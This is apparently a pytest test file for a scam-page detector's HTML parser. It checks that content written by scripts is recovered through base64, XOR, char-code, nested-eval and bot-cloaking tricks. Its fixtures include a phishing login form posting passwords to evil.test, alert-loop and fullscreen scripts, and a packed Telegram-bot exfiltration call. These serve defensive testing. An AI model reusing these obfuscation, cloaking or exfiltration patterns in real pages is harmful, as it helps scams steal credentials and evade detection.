"""What scripts write of what stands in them is read as part of the page, and what is not known is not taken for nothing."""

import json
from base64 import b64encode
from urllib.parse import quote

import pytest

from scamtriage.parse.html.page import read_page
from scamtriage.parse.html.scripts.written_markup import find_written_markup
from scamtriage.records.facts import PageFacts
from tests.cost import least_cpu_s

TEXT = "<p>We meet on Saturday in the park.</p>" * 20
LURE = '<h1>เข้าสู่ระบบ</h1><form action="https://evil.test/p"><input type=password name=p></form><p>LINE ID: @helper99x</p>'
TOLD = json.dumps(LURE)
ENCODED = b64encode(LURE.encode()).decode()
STEPS = "".join(f"h+={json.dumps(LURE[at : at + 30])};" for at in range(0, len(LURE), 30))
AGAIN = b64encode(f"document.write({TOLD})".encode()).decode()
NESTED = json.dumps(f'<script>eval(atob("{AGAIN}"))</script>').replace("</", "<\\/")
WRITES = (
    f'document.write(unescape("{quote(LURE)}"))',
    f'window.document.write(window.atob("{ENCODED}"))',
    f'document["write"](decodeURIComponent(escape(atob("{ENCODED}"))))',
    f"document.write(String.fromCharCode({','.join(str(ord(letter)) for letter in LURE)}))",
    f'var h="";{STEPS}var d=document;d.write(h);d.close()',
    f'document.getElementById("r").innerHTML = {TOLD}',
    f"document.body.innerHTML = `<b>${{user.name}}</b>{LURE}`",
    f'document.write("<b>" + navigator.platform + {TOLD})',
    f'document.body.insertAdjacentHTML("beforeend", {TOLD})',
    f'$(function () {{ $("#r").empty().append({TOLD}) }})',
    f'var f = document.createElement("iframe"); f.srcdoc = {TOLD}; document.body.append(f)',
    f'var f = document.createElement("iframe"); f.src = "data:text/html;base64,{ENCODED}"',
    f'if (!/bot/.test(navigator.userAgent)) document.write(atob("{ENCODED}"))',
    f'var a = 1;{"a = a + 1;" * 3_000}document.write(atob("{ENCODED}"))',
    f"document.write({NESTED})",
)  # fmt: skip


def read(script: str, text: str = TEXT) -> PageFacts:
    body = f"<html><body>{text}<div id=r></div><script>{script}</script>"
    return read_page(body=body.encode(), content_type="text/html; charset=utf-8", url="https://a.test/", host="a.test", suffix="test")[0]


def test_what_scripts_write_of_constants_is_part_of_the_page() -> None:
    for script in WRITES:
        facts = read(script)
        assert facts.asks == ("password",) and "เข้าสู่ระบบ" in facts.text, script
        assert ("line", "@helper99x") in {(contact.kind, contact.value) for contact in facts.contacts}, script


SAYS = "Call the officer in charge at once"


@pytest.mark.parametrize(
    "script",
    [
        f"r.setHTMLUnsafe({TOLD})",
        f'document.body.append(...new DOMParser().parseFromString(atob("{ENCODED}"), "text/html").body.childNodes)',
        f'f.src = URL.createObjectURL(new Blob([atob("{ENCODED}")], {{type: "text/html"}}))',
        f'new Function(atob("{AGAIN}"))()',
    ],
)
def test_newer_ways_to_write_are_ways_to_write(script: str) -> None:
    assert read(script).asks == ("password",)


@pytest.mark.parametrize(
    "script",
    [
        f'r.textContent = "{SAYS}"',
        f'document.body.append("{SAYS}")',
        f'var t = document.createTextNode("{SAYS}"); r.appendChild(t)',
        f'alert("{SAYS}")',
        f'setInterval(function () {{ alert("{SAYS}") }}, 500)',
        f'var c = r.getContext("2d"); c.fillText("{SAYS}", 0, 20)',
    ],
)
def test_a_sentence_that_scripts_say_at_once_is_part_of_the_page(script: str) -> None:
    assert SAYS in read(script).text
    assert SAYS not in read(f"function later() {{ {script} }}").text


@pytest.mark.parametrize("says", ["您的账户已被冻结请立即联系客服", "บัญชีของคุณถูกระงับโปรดติดต่อเจ้าหน้าที่"])
def test_a_sentence_needs_no_spaces(says: str) -> None:
    assert says in read(f'alert("{says}")').text and says in read(f'document.body.append("{says}")').text
    assert "แจ้งเตือน" not in read('d.append("แจ้งเตือน", "ตกลง")').text


def test_styles_and_scripts_that_scripts_append_are_no_sentences() -> None:
    said = read('s.append("a.red { margin: 0 auto; color: red }"); s.append("window.a = function () { return 1 + b ; }")').text
    assert "margin" not in said and "return" not in said
    assert f"{SAYS} {{1}}" in read(f'r.append("{SAYS} {{1}}")').text


def test_a_script_of_a_drawing_may_stand_in_its_address() -> None:
    coded = b64encode(f"document.body.innerHTML += {TOLD}".encode()).decode()
    html = f'{TEXT}<svg><script href="data:text/javascript;base64,{coded}"></script></svg>'
    body = html.encode()
    assert read_page(body=body, content_type="text/html", url="https://a.test/", host="a.test", suffix="test")[0].asks == ("password",)


@pytest.mark.parametrize(
    ("head", "body", "seen"),
    [
        ("", "<script><!-- </script><p>decoy</p><script> --></script><p>seen</p>", "seen"),
        ("", "<script><![CDATA[ </script><p>decoy</p> ]]></script><p>seen</p>", "seen"),
        ("", "<p><![CDATA[1 < 2 & <b>3</b>]]></p>", "1 < 2 & <b>3</b>"),
        ("", "<script src='a>.js'/><p><![CDATA[1 < 2 & <b>3</b>]]></p>", "1 < 2 & <b>3</b>"),
        ("<!DOCTYPE html [<!ENTITY a 'se'><!ENTITY b '&a;en'>]>", "<p>&b;</p>", "seen"),
        ("<!DOCTYPE html>", "<p>a &amp; b &c;</p>", "a & b &c;"),
    ],
)
def test_xml_is_read_as_xml(head: str, body: str, seen: str) -> None:
    page = f'<?xml version="1.0"?>{head}<html xmlns="http://www.w3.org/1999/xhtml"><body>{body}</body></html>'.encode()
    facts, _ = read_page(body=page, content_type="application/xhtml+xml", url="https://a.test/", host="a.test", suffix="test")
    assert facts.text == seen


def test_entities_that_multiply_end() -> None:
    entities = "<!ENTITY a0 'hahaha'>" + "".join(f"<!ENTITY a{n + 1} '{f'&a{n};' * 99}'>" for n in range(30))
    body = f"<!DOCTYPE html [{entities}]><html><body>&a30;</body></html>".encode()
    given = {"body": body, "content_type": "text/xml", "url": "https://a.test/", "host": "a.test", "suffix": "test"}
    assert least_cpu_s(lambda: read_page(**given), within=1) <= 1  # type: ignore[arg-type]


def test_a_message_that_waits_in_a_function_is_not_shown() -> None:
    facts = read(f"function expired() {{ r.innerHTML = {TOLD} }} r.onclick = expired; if (old) {{ r.innerHTML = {TOLD} }}")
    assert (facts.asks, facts.complete) == ((), True) and "เข้าสู่ระบบ" not in facts.text


HELD = "var held = '" + "kq7x " * 60 + "'"


def test_what_is_written_of_the_unknown_is_unknown_beside_whatever_it_stands() -> None:
    for script in ("document.write(unescape(window.name))", 'document.body.innerHTML = "<b>" + decode(x)'):
        facts = read(script, "<p>Please wait for a moment, dear visitor</p>")
        assert facts.incomplete_because == "what its scripts write is not known before they run" and not facts.complete
        assert not read(f"{HELD};{script.replace('document.body', 'box')}").complete
        assert not read(f"{script.replace('document.body', 'box')};fetch('/p').then(show)").complete
    for number in (
        "Math.round(b.value * 652).toLocaleString()", "(ok / total * 100).toFixed(1) + '%'", "(s / 86400 | 0) + ' days'",
        "document.lastModified",
        "'© ' + new Date().getFullYear() + ' the garden club'", "new Date().toLocaleDateString('th-TH')", "day = 'Monday'",
    ):  # fmt: skip
        assert read(f"{HELD};box.innerHTML = {number}").complete, number
    for address in (
        "<script src='\" + host + \"ga.js'></script>",
        "<a href='https://a.test/?r=\" + escape(document.referrer) + \"'><img src='/c.gif'></a>",
    ):
        assert read(f'{HELD};document.write("{address}")').complete, address
    told = "document.write('<scr' + 'ipt src=\"' + u); document.write('&amp;cb=' + r); document.write('\"></scr' + 'ipt>')"
    assert read(told).complete and read('document.write(unescape("%3Cscript src=\'" + host + "ga.js\'%3E%3C/script%3E"))').complete
    for words in (
        "'<a href=\"/\">' + told", "'<b title=' + told", "unescape('%3Cb%3E' + told)", "'<img src=\"/a.gif\">' + told",
        "Math.round(a) || told", "a * b ? told : 1", "(told).toFixed(2)", "(told | 1, told)", "dec(key, Date)", "new Date().constructor(k)",
        "told[Math.round(a)]", "new Date(key)[key]",
    ):  # fmt: skip
        assert not read(f"{HELD};box.innerHTML = {words}").complete, words
        assert read(f"box.innerHTML = {words}").complete, words  # there are none, but for what scripts from elsewhere bring
    assert read("document.write(new Date().getFullYear())", "<p>Garden club of the town, in the park</p>").complete


def test_a_page_of_the_site_that_fills_this_one_in_a_frame_is_told() -> None:
    for frame in ("<iframe style='width:100%;height:2000px' src=/real>", "<iframe width=100% height=100% src=//www.a.test/real>"):
        body = (TEXT[:300] + frame).encode()
        facts, caps = read_page(body=body, content_type="text/html", url="https://a.test/", host="a.test", suffix="test")
        assert ("frames of the site", "1") in {(cap.cap, cap.seen) for cap in caps} and not facts.complete
        assert read("", TEXT + frame).complete
    assert read("", "申请加入园艺俱乐部的人请先阅读下面的说明，" * 20 + "<iframe src=/real height=900></iframe>").complete
    assert read(
        "", f"{TEXT[:300]}<iframe src=/real height=200></iframe><iframe width=100% height=900 src=//maps.google.com/></iframe>"
    ).complete


def test_what_takes_the_place_of_the_whole_page_is_unknown_however_much_stood_there_before() -> None:
    for script in (
        'fetch("/p").then(r=>r.text()).then(t=>{document.body.innerHTML=t})',
        'const q=document.body;fetch("/p").then(async r=>{q["innerHTML"]=await r.text()})',
        '$.get("/p",function(t){$("body").html(t)})',
        'fetch("/p").then(r=>r.text()).then(t=>{document.open();document.write(t);document.close()})',
        'onscroll=function(){document.documentElement.innerHTML=document.getElementById("t").value}',
    ):
        assert read(script).incomplete_because == "what its scripts write is not known before they run", script
    for script in (
        "function p(n){var o=document.body.innerHTML;document.body.innerHTML=n.innerHTML;window.print();document.body.innerHTML=o}",
        "document.body.classList.add('x');box.innerHTML='<b>Open</b>';document.body.appendChild(box)",
        "function p(){var w=window.open('');w.document.open();w.document.write(x);w.document.body.innerHTML=x}",
    ):
        assert read(script).complete, script


def test_a_page_of_constants_is_read_whatever_it_waits_for() -> None:
    for script in (f"if (navigator.userAgent) {{ document.body.innerHTML = {TOLD} }}", f"onload = () => $('body').html({TOLD})"):
        facts = read(script)
        assert facts.asks == ("password",) and facts.complete, script


@pytest.mark.parametrize(
    "element", ['<textarea hidden="hidden"/>', "<style/>", "<title/>", "<script src='/a.js'/>", "<iframe title='a>b' />"]
)
def test_what_is_closed_where_it_begins_takes_nothing_of_a_page_of_xml(element: str) -> None:
    body = f'<html xmlns="http://www.w3.org/1999/xhtml"><head><meta name="a"/></head><body>{element}{LURE}<br/>{TEXT}</body></html>'
    for content_type in ("application/xhtml+xml", "text/xml"):
        facts, _ = read_page(body=body.encode(), content_type=content_type, url="https://a.test/", host="a.test", suffix="test")
        assert facts.asks == ("password",) and "park" in facts.text and facts.complete


def test_a_page_that_a_style_sheet_of_another_file_makes_is_unknown() -> None:
    def known(head: str, content_type: str) -> bool:
        body = f'<?xml version="1.0"?>{head}<page>{TEXT}</page>'.encode()
        return read_page(body=body, content_type=content_type, url="https://a.test/", host="a.test", suffix="test")[0].complete

    sheet = '<?xml-stylesheet type="text/xsl" href="/s.xsl"?>'
    assert not known(sheet, "text/xml; charset=utf-8") and not known(sheet, "application/xhtml+xml")
    assert not known(sheet.replace("/s.xsl", "data:text/xsl," + "%3Ca>" * 300), "text/xml")
    assert not known(f"<!--{'x' * 5_000}-->{sheet}", "text/xml")
    assert known(sheet, "text/html") and known("", "text/xml") and known(sheet.replace("xsl", "css"), "text/xml")


@pytest.mark.parametrize(
    "script",
    [
        'document.body.innerHTML=document.body.innerHTML.replace("{year}",new Date().getFullYear())',
        '$("body").html($("body").html().replace(/x/g,y))',
        'window.onerror=function(m){document.body.innerHTML="Error: "+m}',
        'document.addEventListener("click",async e=>{document.body.innerHTML=await(await fetch(e.target.href)).text()})',
        'if(old)document.body.innerHTML="<p>Please update your browser</p>"+navigator.userAgent',
    ],
)
def test_what_stood_there_before_a_notice_and_what_waits_for_a_visitor_take_the_place_of_nothing(script: str) -> None:
    assert read(script, TEXT).complete
    for unknown in (".replace(/[^]*/,y)", "=y"):
        assert not read(f"document.body.innerHTML{unknown};document.body.innerHTML=document.body.innerHTML{unknown}", TEXT).complete
    if "click" in script:
        assert not read(f"{script};document.body.click()", TEXT).complete


@pytest.mark.parametrize(
    "put",
    [
        'document.getElementsByTagName("body")[0].innerHTML=t',
        "document.all[0].innerHTML=t",
        '$("body").load("/p")',
        "document.replaceChild(document.adoptNode(t),document.documentElement)",
        'document.body.insertAdjacentHTML("afterbegin",t)',
        'document.querySelector("main").innerHTML=t',
    ],
)
def test_the_page_is_replaced_in_every_spelling_and_its_middle_where_it_says_little(put: str) -> None:
    script = f'fetch("/p").then(r=>r.text()).then(t=>{{{put}}})'
    assert not read(script, TEXT[:300]).complete
    assert read(script, TEXT).complete is any(part in put for part in ("main", "Adjacent"))
    assert read('$("#foot").load("/foot.html")', TEXT[:300]).complete


def test_attributes_that_load_the_page_at_once_leave_one_of_few_words_unknown() -> None:
    for loading in ('<div hx-get=/p hx-trigger="load" hx-target="body"></div>', "<p x-init=\"h=await fetch('/p')\" x-html=h></p>"):
        assert not read("", TEXT[:300] + loading).complete and read("", TEXT + loading).complete
    assert read("", f"{TEXT[:300]}<div hx-get=/cart hx-trigger=load></div>").complete


COVERING = "position:fixed;inset:0;width:100%;height:100%"


def test_a_page_of_another_site_that_covers_this_one_is_not_judged_by_the_words_behind_it() -> None:
    tall = "<iframe width=100% height=1200 src=//x.test/></iframe>"
    for body in (f"{TEXT}<iframe src=//x.test/ style='{COVERING}'></iframe>", TEXT[:200] + tall):
        facts, caps = read_page(body=body.encode(), content_type="text/html", url="https://a.test/", host="a.test", suffix="test")
        assert ("frames of other sites", "1") in {(cap.cap, cap.seen) for cap in caps} and not facts.complete, body
    film = "<iframe style='position:absolute;top:0;left:0;width:100%;height:100%' src=https://www.youtube.com/embed/x></iframe>"
    waiting = f"<iframe src=//x.test/ style='{COVERING};display:none'></iframe>"
    assert read("", TEXT + film + waiting).complete
    assert read("", f"{TEXT}{tall}<iframe width=100% height=900 src=//booking.test/></iframe>").complete


def test_a_script_in_the_box_of_a_film_is_no_word_that_the_film_lies_over() -> None:
    film = "<iframe src=//films.test/ style='position:absolute;width:100%;height:100%'></iframe>"
    box = f"<div style='position:relative;padding-bottom:56.25%'><script>{'player();' * 20}</script>{film}</div>"
    assert read("", TEXT + box).complete
    over = f"<div style='position:absolute;inset:0'><p>{TEXT}</p><div style='position:absolute;width:100%;height:100%'>{film}</div></div>"
    assert not read("", over).complete


FRAME = "<iframe class=f id=f src=//x.test/></iframe>"


@pytest.mark.parametrize(
    "body",
    [
        f"<style>.f{{{COVERING}}}</style>{FRAME}",
        f"<style>div>#f{{position:fixed;inset:0}}</style><div>{FRAME}</div>",
        f"<style>.o{{position:fixed;inset:0}}.o iframe{{width:100%;height:100%}}</style><div class=o>{FRAME}</div>",
        "<iframe src=//x.test/ style='position:fixed;width:calc(100%);height:calc(100vh - 0px)'></iframe>",
        "<iframe src=//x.test/ style='position:fixed;inline-size:100%;min-block-size:100%'></iframe>",
        f"<object data=//x.test/ style='{COVERING}'></object>",
        f"<div style='position:relative'>{TEXT}<iframe src=//x.test/ style='position:absolute;width:100%;height:100%'></iframe></div>",
    ],
)
def test_a_frame_covers_a_page_by_whatever_is_said_of_it_and_of_what_it_stands_in(body: str) -> None:
    assert not read("", TEXT + body).complete


@pytest.mark.parametrize(
    "script",
    [
        f"f.src='//x.test/'//<iframe id=f style='{COVERING}'></iframe>",
        f"var f=document.createElement('iframe');f.src='https://x.test/';f.style.cssText='{COVERING}'",
        "var f=document.createElement('iframe');f.src='//x.test/';f.width='100%';f.height='100%'",
        f"Object.assign(document.createElement('iframe'),{{src:'//x.test/',style:'{COVERING}'}})",
    ],
)
def test_a_frame_that_a_script_makes_or_fills_is_what_a_page_of_few_words_shows(script: str) -> None:
    script, _, frame = script.partition("//<")
    assert not read(script, f"{TEXT[:300]}<{frame}").complete and read(script, TEXT + TEXT).complete
    assert read(script.replace("x.test", "www.youtube.com"), TEXT[:300]).complete


def test_the_box_of_a_film_is_a_part_of_its_page_whoever_shows_it() -> None:
    whole = "position:absolute;top:0;left:0;width:100%;height:100%"
    sheet = f"<style>.box{{position:relative;padding-top:56.25%}}.box iframe{{{whole}}}.m{{position:fixed;inset:0;display:none}}</style>"
    for body in (
        f"<div style='position:relative;padding-bottom:56.25%;height:0'><iframe style='{whole}' src=//x.test/></iframe></div>",
        f"<div style='position:relative;aspect-ratio:16/9'><iframe style='{whole}' src=//x.test/></iframe></div>",
        f"{sheet}<div class=box><iframe src=//x.test/></iframe></div><div class=m>{FRAME}</div>",
    ):
        assert read("", TEXT[:300] + body).complete, body
        assert not read("", TEXT[:300] + body.replace("56.25", "156.25").replace("16/9", "9/16")).complete, body


@pytest.mark.parametrize(
    "script",
    [
        f"localStorage.p = {TOLD}; r.innerHTML = localStorage.p",
        f"Promise.resolve({TOLD}).then(p => r.innerHTML = p)",
        f'customElements.define("x-a", class extends HTMLElement {{ connectedCallback() {{ this.innerHTML = {TOLD} }} }})',
        f'const d = document, w = "write"; d[w].call(d, {TOLD})',
        f"var r = document.body; r.append(document.createRange().createContextualFragment({TOLD}))",
    ],
)
def test_what_a_script_holds_and_may_write_is_kept_apart_and_asks(script: str) -> None:
    facts = read(script.replace("<h1>", f"<h1>{'Call the officer in charge at once and pay the fee. ' * 8}"))
    assert facts.asks == ("password",) and "Call the officer" in facts.hidden_text and "Call the officer" not in facts.text


def test_sentences_that_a_script_lists_are_kept_apart() -> None:
    said = [
        "Your account was closed by the bank.",
        "Pay the fee to the officer.",
        "Send a picture of your card.",
        "Tell nobody of this call.",
    ]
    script = f"{json.dumps(said * 3)}.forEach(t => {{ const p = document.createElement('p'); p.textContent = t; document.body.append(p) }})"
    assert "officer" not in read(script).hidden_text  # a few sentences are messages
    more = [f"{line} It is the {n} notice, and the last that we send before the police come." for n, line in enumerate(said)]
    assert "the last that we send" in read(script.replace(json.dumps(said * 3), json.dumps(more))).hidden_text


XORED = ",".join(str(ord(letter) ^ 23) for letter in LURE * 4)
UNXOR = 'for (var i = 0; i < a.length; i++) s += String.fromCharCode(a[i] ^ 23); document.getElementById("r").innerHTML = s'


@pytest.mark.parametrize(
    "script",
    [
        f'var a = [{XORED}], s = ""; {UNXOR}',
        f'r.innerHTML = LZString.decompressFromBase64("{ENCODED * 4}")',
        f'r.insertAdjacentHTML("beforeend", CryptoJS.AES.decrypt("{ENCODED * 4}", k).toString(CryptoJS.enc.Utf8))',
    ],
)
def test_a_page_that_a_script_deciphers_is_not_known_whatever_stands_beside(script: str) -> None:
    assert not read(script, TEXT * 4).complete
    assert read(script.replace("innerHTML = ", "title = ").replace("insertAdjacentHTML", "setAttribute"), TEXT * 4).complete


def test_an_address_that_a_script_deciphers_is_no_page() -> None:
    address = ",".join(str(ord(letter) ^ 23) for letter in "<a href='mailto:info@garden.test'>info@garden.test</a>")
    assert read(f'var a = [{address}], s = ""; {UNXOR}', TEXT * 4).complete


CIPHER = f"var k = '{'Ab3d' * 900}'; function f(x) {{ return String.fromCharCode(x.charCodeAt(0) ^ 3) }}"


@pytest.mark.parametrize(
    "write",
    [
        "document.write('<img src=\"' + f(k))", "document.write('<img src='); document.write(f(k))",
        "Math.f = f; document.write(Math.f(k))", "Date.toPage = f; document.write(Date.toPage(k))",
        "p.getFullYear = f; document.write(p.getFullYear())",
    ],
)  # fmt: skip
def test_a_cipher_is_no_address_time_or_number_because_it_is_written_as_one(write: str) -> None:
    assert not read(f"{CIPHER}; {write}", TEXT * 4).complete


@pytest.mark.parametrize(
    "begun",
    ['<iframe srcdoc="', "<iframe id=a srcdoc='", '<iframe src="data:text/html,', "<embed src='data:text/html,", "<img src=x onerror='"],
)
def test_a_document_or_a_script_in_an_attribute_is_no_address(begun: str) -> None:
    assert find_written_markup([f"document.write({json.dumps(begun)} + k)"]).unknown
    assert not find_written_markup([f"document.write({json.dumps('<iframe name=a src=')} + k)"]).unknown


@pytest.mark.parametrize(
    "value",
    ["d.getFullYear()", "now.time.toLocaleDateString()", "54781", "'<b>' + 3 + '</b> of ' + all.length", "parseInt(x, 10)", "Number(x)"],
)
def test_times_and_numbers_by_any_name_are_no_words(value: str) -> None:
    words = "The first word of many words that stand here for nobody to read. " * 5
    assert read(f"var d = new Date(), s = {json.dumps(words)}; r.innerHTML = {value}").complete
    for other in (f"load(k, {value})", f"load(k) || {value}", f"({value}, load(k))", f"one ? {value} : load(k)"):
        assert not read(f"var d = new Date(), s = {json.dumps(words)}; r.innerHTML = {other}").complete, other


def test_a_text_that_is_added_to_itself_is_known() -> None:
    """As a widespread content manager keeps addresses from robots."""
    script = (
        "var path = 'hr' + 'ef' + '='; var prefix = '&#109;a' + 'i&#108;' + '&#116;o'; var addy = 'j&#111;' + '&#64;';"
        "addy = addy + 'g&#97;rden' + '&#46;' + 'test'; r.innerHTML += '<a ' + path + '\\'' + prefix + ':' + addy + '\\'>' + addy + '</a>'"
    )
    assert not find_written_markup([script]).unknown
    assert ("email", "jo@garden.test") in {(contact.kind, contact.value) for contact in read(script).contacts}
    loop = "for (;;) { a = a + 'y' }"
    for other in (loop, "a = a + b", "a = a + b ? 'y' : 'z'", "if (b) a = a + 'y'", "a = a + 'y'; a = b", "a = a - 'y'"):
        assert find_written_markup([f"var a = 'x'; {other}; document.write(a)"]).unknown, other


def test_scripts_that_hold_much_in_words_take_no_room_from_those_that_write() -> None:
    words = ",".join(json.dumps(f"This is message number {n} of many") for n in range(9_000))
    facts = read(f"var m = [{words}]; document.createElement('p')</script><script>document.body.innerHTML = load()")
    assert not facts.complete


@pytest.mark.parametrize("piece", ["<", "'<a", "1,1,", "'a b c d", "A" * 2_400 + " ", '"</'])
def test_long_scripts_cost_little(piece: str) -> None:
    script = f"r.innerHTML = x.fromCharCode; decrypt({piece * (400_000 // len(piece))}"
    assert least_cpu_s(lambda: find_written_markup([script]), within=1) <= 1


@pytest.mark.parametrize(
    "deep",
    [
        "unescape(" * 3_000 + "k" + ")" * 3_000,
        "k" + ".toFixed(1)" * 2_500,
        "(" * 3_500 + "k*2" + ")" * 3_500,
        "a=b=" * 1_500 + "k",
        "document.body.innerHTML.replace(a," * 900 + "k" + ")" * 900,
        "+".join(["'<a href='", "k"] * 2_000),
        "new Date()" + ".toString()" * 1_500,
    ],
)
def test_what_a_number_or_a_time_is_told_by_may_be_deep(deep: str) -> None:
    assert least_cpu_s(lambda: find_written_markup([f"box.innerHTML = {deep}"]), within=1) <= 1


def test_a_script_that_makes_much_of_little_costs_little() -> None:
    doubling = "var a0='%3C" + "x" * 400 + "';" + "".join(f"var a{n + 1}=a{n}+a{n};" for n in range(10))
    script = doubling + "document.write(unescape(a10));" * 500 + "document.write(atob('PGI+'));" * 500 + "document.write(a10);" * 500
    assert len(find_written_markup([script]).markup) < 2_000_000
    assert least_cpu_s(lambda: find_written_markup([script]), within=1) <= 1


LOOP = "setInterval(function(){alert('call us')},100)"
NUMBERED = "".join(f"\\x{ord(letter):02x}" for letter in "requestFullscreen")
PACKED = {
    "base64": (f"eval(atob('{b64encode(LOOP.encode()).decode()}'))", "dialog-loop"),
    "percent signs": (f"eval(unescape('{quote(LOOP)}'))", "dialog-loop"),
    "a constructor": (f"new Function(atob('{b64encode(LOOP.encode()).decode()}'))()", "dialog-loop"),
    "numbers": (f"document.documentElement['{NUMBERED}']()", "fullscreen"),
    "numbers in a list": (f"var _0x1f=['{NUMBERED}'];document.body[_0x1f[0]]()", "fullscreen"),
    "numbers of UTF-16": (f"document.body['{NUMBERED.replace(chr(92) + 'x', chr(92) + 'u00')}']()", "fullscreen"),
}


@pytest.mark.parametrize("name", PACKED)
def test_what_a_packed_script_does_to_the_visitor_is_seen(name: str) -> None:
    script, behaviour = PACKED[name]
    assert read(script).behaviours == (behaviour,)


def test_a_packed_script_shows_its_exfiltration_and_says_nothing_that_is_seen() -> None:
    code = "var end='</script><h1>no</h1>';fetch('https://api.telegram.org/bot1234567890:" + "A" * 35 + "/sendMessage')"
    facts = read(f"eval(atob('{b64encode(code.encode()).decode()}'))")
    assert facts.exfil == ("telegram-bot",)
    assert facts.text == read("").text and facts.headings == ()


@pytest.mark.parametrize("few", ["\\u002F", "\\x2f", "\\u0026", "\\u0041-\\u005a"])
def test_signs_that_data_write_as_numbers_make_no_second_script_of_it(few: str) -> None:
    assert find_written_markup([f"window.__STATE__={{a:'{few * 50}'}}"]).run == ()


def test_what_a_packed_script_writes_stands_in_the_page_once() -> None:
    code = "document.write('<a href=https://s.test/>Our shop</a>')"
    packed = f"document.write('<p>Welcome</p>');eval(atob('{b64encode(code.encode()).decode()}'))"
    assert read(packed).link_count == read(code).link_count == read("").link_count + 1


def test_what_a_script_with_its_letters_as_numbers_writes_is_read_as_if_they_were_letters() -> None:
    write = "".join(f"\\x{ord(letter):02x}" for letter in "writeln")
    assert read(f"document['{write}']('<h1>Bank of Nowhere</h1>')").headings == ("Bank of Nowhere",)


def test_a_text_that_stands_between_quotes_is_no_packed_script() -> None:
    assert find_written_markup(["setTimeout('alert(1)',10);eval('alert('+'2)')"]).run == ("alert(2)",)
